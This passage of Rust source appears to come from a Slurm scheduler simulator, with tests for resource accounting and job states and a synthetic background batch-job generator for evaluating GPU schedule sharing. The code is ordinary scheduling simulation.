            mem_mb: 64_000,
        };
        assert!(job.fits_in(&node));
        let mut free = node;
        free.sub(&job);
        assert_eq!(free.gpus, 2);
        free.add(&job);
        assert_eq!(free, node);
        let too_big = Resources {
            cpus: 60,
            ..job
        };
        assert!(!too_big.fits_in(&node));
    }

    #[test]
    #[should_panic(expected = "oversubscription")]
    fn sub_panics_on_underflow() {
        let mut a = Resources {
            cpus: 1,
            gpus: 0,
            mem_mb: 0,
        };
        a.sub(&Resources {
            cpus: 2,
            gpus: 0,
            mem_mb: 0,
        });
    }

    #[test]
    fn job_state_predicates() {
        assert!(JobState::Pending.is_active());
        assert!(JobState::Running {
            node: "g1".into(),
            since: 0
        }
        .is_active());
        assert!(!JobState::Completed.is_active());
        assert!(!JobState::Pending.is_running());
    }
}
