//! Synthetic "regular Slurm workload" generator.
//!
//! The paper's selling point is that the service runs *side by side with
//! regular Slurm workloads, utilizing gaps in the schedule* (§1). To
//! evaluate that claim we need those regular workloads: a stochastic stream
//! of batch jobs (training runs, MPI jobs) with configurable arrival rate,
//! size and duration distributions, competing with the service jobs for
//! GPUs.

use super::types::{JobId, JobSpec, Resources};
use super::Slurmctld;
use crate::util::clock::Millis;
use crate::util::rng::Rng;

/// Parameters for the synthetic batch-job stream.
#[derive(Debug, Clone)]
pub struct BackgroundLoadConfig {
    /// Mean inter-arrival time between batch jobs.
    pub mean_interarrival_ms: f64,
    /// GPU counts drawn uniformly from this set.
    pub gpu_choices: Vec<u32>,
    /// Mean job duration (exponential).
    pub mean_duration_ms: f64,
    /// Priority assigned to batch jobs (the paper gives service jobs higher
    /// priority so they restart without waiting behind the backlog, §7.1.3).
    pub priority: i64,
}

impl Default for BackgroundLoadConfig {
    fn default() -> Self {
        BackgroundLoadConfig {
            mean_interarrival_ms: 30_000.0,
            gpu_choices: vec![1, 2, 4],
            mean_duration_ms: 600_000.0,
            priority: 50,
        }
    }
}

/// Stateful generator; call [`BackgroundLoad::pump`] each scheduling cycle.
pub struct BackgroundLoad {
    config: BackgroundLoadConfig,
    rng: Rng,
    next_arrival: Millis,
    submitted: Vec<JobId>,
    counter: u64,
}

impl BackgroundLoad {
    pub fn new(config: BackgroundLoadConfig, seed: u64) -> BackgroundLoad {
        BackgroundLoad {
            config,
            rng: Rng::new(seed),
            next_arrival: 0,
            submitted: Vec::new(),
            counter: 0,
        }
    }

    /// Submit any batch jobs whose arrival time has passed.
    pub fn pump(&mut self, ctld: &mut Slurmctld) {
        let now = ctld.now();
        while self.next_arrival <= now {
            let gpus = *self.rng.choose(&self.config.gpu_choices).unwrap_or(&1);
            let duration = self.rng.exp(self.config.mean_duration_ms) as Millis + 1;
            self.counter += 1;
            let spec = JobSpec {
                priority: self.config.priority,
                ..JobSpec::batch(
                    &format!("batch-{}", self.counter),
                    Resources {
                        cpus: 4 * gpus,
                        gpus,
                        mem_mb: 32_000 * gpus as u64,
                    },
                    duration,
                    duration * 2,
                )
            };
            self.submitted.push(ctld.sbatch(spec));
            self.next_arrival =
                now + self.rng.exp(self.config.mean_interarrival_ms) as Millis + 1;
        }
    }

    pub fn submitted(&self) -> &[JobId] {
        &self.submitted
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::clock::SimClock;

    #[test]
    fn pump_submits_over_time() {
        let clock = SimClock::new();
        let mut ctld = Slurmctld::with_gpu_nodes(clock.clone(), 4);
        let mut bg = BackgroundLoad::new(
            BackgroundLoadConfig {
                mean_interarrival_ms: 10_000.0,
                ..Default::default()
            },
            7,
        );
        for _ in 0..100 {
            clock.advance_by(10_000);
            bg.pump(&mut ctld);
            ctld.tick();
            ctld.check_invariants();
        }
        assert!(
            bg.submitted().len() > 50,
            "expected ~100 arrivals, got {}",
            bg.submitted().len()
        );
        // Some jobs must have completed by now.
        let completed = bg
            .submitted()
            .iter()
            .filter(|id| {
                matches!(
                    ctld.job(**id).map(|j| j.state.clone()),
                    Some(super::super::types::JobState::Completed)
                )
            })
            .count();
        assert!(completed > 0);
    }

    #[test]
    fn service_jobs_preempt_queue_order() {
        // With higher priority, service jobs start before queued batch jobs.
        let clock = SimClock::new();
        let mut ctld = Slurmctld::with_gpu_nodes(clock.clone(), 1);
        // Fill the node.
        let blocker = ctld.sbatch(JobSpec::batch(
            "blocker",
            Resources {
                cpus: 8,
                gpus: 4,
                mem_mb: 1000,
            },
            5_000,
            10_000,
        ));
        ctld.tick();
        assert!(ctld.job(blocker).unwrap().state.is_running());
        // Queue: one batch job (prio 50), one service job (prio 100).
        let batch = ctld.sbatch(JobSpec::batch(
            "queued-batch",
            Resources {
                cpus: 8,
                gpus: 4,
                mem_mb: 1000,
            },
            5_000,
            10_000,
        ));
        let svc = ctld.sbatch(JobSpec::service("svc", 4, 60_000));
        clock.advance_by(5_000);
        ctld.tick(); // blocker completes, service should win the free GPUs
        assert!(ctld.job(svc).unwrap().state.is_running());
        assert!(!ctld.job(batch).unwrap().state.is_running());
    }
}
